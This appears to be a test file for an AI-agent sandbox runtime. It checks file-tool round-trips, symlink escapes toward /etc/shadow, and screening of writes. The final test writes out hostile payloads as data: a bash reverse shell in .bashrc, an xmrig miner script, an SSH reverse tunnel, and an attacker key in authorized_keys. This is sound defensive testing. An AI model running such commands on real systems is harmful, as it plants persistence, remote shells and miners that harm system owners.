@@ -1,0 +1,114 @@
+// Why: proves a session's file tools (write, read, str_replace, insert) work as an agent's editor
+// does, inside a real sandbox, as the agent: bytes round-trip exactly, a symlink the agent planted
+// cannot make Corral read or write a host file with root's rights, each operation is a tool call
+// with its own step and id in the event log, and a file tool is screened on what it writes (a
+// persistence place, a reverse shell in a shell start-up file, a miner in a script) — flagged, or
+// refused before anything is written when the policy blocks — while ordinary edits raise nothing.
+// Real sandboxes, real processes, the kernel sensor on, inside the lab.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { startFixture, labPolicy, type Fixture } from './helpers/lab-fixture.js';
+
+let fx: Fixture;
+before(async () => { fx = await startFixture([], 'labft'); });
+after(async () => { await fx?.close(); });
+
+test('file tools: write, read, str_replace and insert round-trip inside the sandbox, as the agent, one tool call each', async () => {
+  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-basic' });
+  try {
+    const w = await s.file({ op: 'write', path: 'pkg/app/main.py', content: 'def add(a, b):\n    return a - b\n', step: 1, toolCallId: 'ed-1' });
+    assert.ok(w.ok, w.problem);
+    assert.equal(w.path, '/workspace/pkg/app/main.py');
+    assert.equal(w.size, 32);
+    const e = await s.file({ op: 'str_replace', path: '/workspace/pkg/app/main.py', old: 'a - b', new: 'a + b', step: 2, toolCallId: 'ed-2' });
+    assert.ok(e.ok, e.problem);
+    const i = await s.file({ op: 'insert', path: '~/pkg/app/main.py', line: 0, text: '"""Adds."""', step: 3, toolCallId: 'ed-3' });
+    assert.ok(i.ok, i.problem);
+    // what the agent's own shell sees, and who owns it (the agent, not root)
+    const seen = await s.exec({ command: 'cat pkg/app/main.py; stat -c %u pkg/app/main.py', step: 4, toolCallId: 'sh-4' });
+    assert.equal(seen.stdout, '"""Adds."""\ndef add(a, b):\n    return a + b\n65534\n');
+    const r = await s.file({ op: 'read', path: 'pkg/app/main.py', step: 5, toolCallId: 'ed-5' });
+    assert.ok(r.ok, r.problem);
+    assert.equal(r.content?.toString(), '"""Adds."""\ndef add(a, b):\n    return a + b\n');
+    assert.equal(r.truncated, false);
+    // every byte value survives a write and a read; a capped read says more follows
+    const bytes = Buffer.from(Array.from({ length: 512 }, (_, k) => k % 256));
+    assert.ok((await s.file({ op: 'write', path: 'blob.bin', content: bytes, step: 6 })).ok);
+    const back = await s.file({ op: 'read', path: 'blob.bin', step: 7 });
+    assert.ok(back.content?.equals(bytes), 'binary content round-trips');
+    const head = await s.file({ op: 'read', path: 'blob.bin', maxBytes: 10, step: 8 });
+    assert.deepEqual([head.content?.length, head.truncated, head.size], [10, true, 512]);
+    const dir = await s.file({ op: 'read', path: 'pkg', step: 9 });
+    assert.deepEqual(dir.entries, ['app/']);
+    // operations that do not apply say why, as the agent should read it; the file is untouched
+    const twice = await s.file({ op: 'write', path: 'dup.txt', content: 'x = 1\nx = 1\n', step: 10 });
+    assert.ok(twice.ok);
+    const amb = await s.file({ op: 'str_replace', path: 'dup.txt', old: 'x = 1', new: 'x = 2', step: 11 });
+    assert.equal(amb.ok, false);
+    assert.match(amb.problem ?? '', /appears 2 times .*lines 1, 2/);
+    const none = await s.file({ op: 'read', path: 'missing.txt', step: 12 });
+    assert.equal(none.ok, false);
+    assert.match(none.problem ?? '', /cannot read \/workspace\/missing\.txt: No such file or directory/);
+    const past = await s.file({ op: 'insert', path: 'dup.txt', line: 9, text: 'y', step: 13 });
+    assert.match(past.problem ?? '', /line 9 is past the end .*\(2 lines\)/);
+    assert.equal((await s.file({ op: 'read', path: 'dup.txt', step: 14 })).content?.toString(), 'x = 1\nx = 1\n');
+    await assert.rejects(s.file({ op: 'insert', path: 'dup.txt', line: -1, text: '' }), /line must be a whole number/);
+    await assert.rejects(s.file({ op: 'read', path: 'a\0b' }), /NUL byte/);
+    // nothing here is hostile: no alert from the screen or from the runtime rules watching the tool's own process
+    await s.exec({ command: 'true', step: 15, syncSensor: true });
+    assert.deepEqual(s.alertEvents.map((a) => a.payload.rule), []);
+  } finally { await s.close(); }
+  // the log: one tool call per operation, its kind, path and the process that did it
+  {
+    const starts = fx.rt.store.query({ episode: 'ft-basic', kind: ['toolcall.start'] });
+    const edit = starts.find((ev) => ev.tool_call === 'ed-2')!;
+    assert.equal(edit.step, 2);
+    assert.equal(edit.payload.tool, 'file');
+    assert.equal(edit.payload.file_op, 'str_replace');
+    assert.equal(edit.payload.path, '/workspace/pkg/app/main.py');
+    assert.equal(edit.payload.command, 'str_replace in /workspace/pkg/app/main.py');
+    const execs = fx.rt.store.query({ episode: 'ft-basic', tool_call: 'ed-2', kind: ['exec'] });
+    assert.ok(execs.some((ev) => String((ev.payload.argv as string[])[0]).endsWith('perl')), 'the edit ran as a process of its own tool call');
+  }
+});
+
+test('file tools cannot reach host files through a symlink the agent planted: they run as the agent, in the sandbox', async () => {
+  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-link' });
+  try {
+    await s.exec({ command: 'ln -s /etc/shadow notes.txt && ln -s /etc/hostname host.txt', step: 1 });
+    const shadow = await s.file({ op: 'read', path: 'notes.txt', step: 2 });
+    assert.equal(shadow.ok, false, 'root on the host could read /etc/shadow; the agent cannot');
+    assert.match(shadow.problem ?? '', /Permission denied|No such file/);
+    const write = await s.file({ op: 'write', path: 'host.txt', content: 'owned\n', step: 3 });
+    assert.equal(write.ok, false);
+    assert.match(write.problem ?? '', /Read-only file system|Permission denied/);
+    const etc = await s.file({ op: 'write', path: '/etc/cron.d/job', content: '* * * * * root true\n', step: 4 });
+    assert.equal(etc.ok, false);
+  } finally { await s.close(); }
+});
+
+test('file tools are screened on what they write: flagged by default, refused before writing when the policy blocks', async () => {
+  const flag = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-flag' });
+  try {
+    const rc = await flag.file({ op: 'write', path: '.bashrc', content: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1\n', step: 1, toolCallId: 'plant-1' });
+    assert.ok(rc.ok, 'observed, not blocked: the write happened');
+    const rules = rc.alerts.map((a) => a.payload.rule);
+    assert.ok(rules.includes('persistence.file_written') || rules.some((r) => /persistence/.test(r)), `persistence flagged: ${rules}`);
+    assert.ok(rc.alerts.some((a) => a.payload.category === 'reverse_shell'), `the written reverse shell is judged as shell code: ${rules}`);
+    assert.ok(rc.alerts.every((a) => a.tool_call === 'plant-1' && a.step === 1));
+    const miner = await flag.file({ op: 'write', path: 'run.sh', content: '#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.test:3333 -u wallet &\n', step: 2, toolCallId: 'plant-2' });
+    assert.ok(miner.alerts.some((a) => a.payload.category === 'mining'), `a miner parked in a script is seen: ${miner.alerts.map((a) => a.payload.rule)}`);
+  } finally { await flag.close(); }
+
+  const block = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'ft-block' });
+  try {
+    const rc = await block.file({ op: 'str_replace', path: 'deploy.sh', old: 'x', new: 'ssh -fN -R 9000:localhost:22 tunnel@203.0.113.5', step: 1 });
+    assert.equal(rc.exitCode, 126);
+    assert.equal(rc.ok, false);
+    assert.match(rc.stderr, /blocked before running/);
+    const w = await block.file({ op: 'write', path: '.ssh/authorized_keys', content: 'ssh-ed25519 AAAA attacker\n', step: 2 });
+    assert.equal(w.ok, false);
+    const after = await block.exec({ command: 'ls -a .ssh 2>&1; echo end', step: 3 });
+    assert.doesNotMatch(after.stdout, /authorized_keys/, 'a refused write writes nothing');
+  } finally { await block.close(); }
+});
